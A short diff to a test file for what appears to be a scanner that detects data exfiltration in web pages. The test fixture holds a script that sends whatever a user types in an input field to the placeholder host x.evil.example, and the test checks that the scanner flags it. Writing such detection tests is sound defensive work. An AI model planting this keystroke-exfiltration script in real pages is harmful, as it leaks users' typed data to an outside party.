@@ -264,7 +264,8 @@ def test_a_proxy_trap_returns_what_it_reads():
 def test_an_input_events_composed_path_is_its_control():
     source = ("<input id=q><script>q.addEventListener('input', (e) => {\n"
               "  new Image().src = 'https://x.evil.example/?' + e.composedPath()[0].value; });</script>")
-    assert ("exfil.input-to-url", "high", ["input:input"], ["x.evil.example"]) in rules_of(source)
+    # `q` is the input (HTML's named access), so the listener is on it and the finding names it.
+    assert ("exfil.input-to-url", "high", ["input:#q"], ["x.evil.example"]) in rules_of(source)
 
 
 def test_a_platform_promise_and_a_thrown_error_stay_quiet():
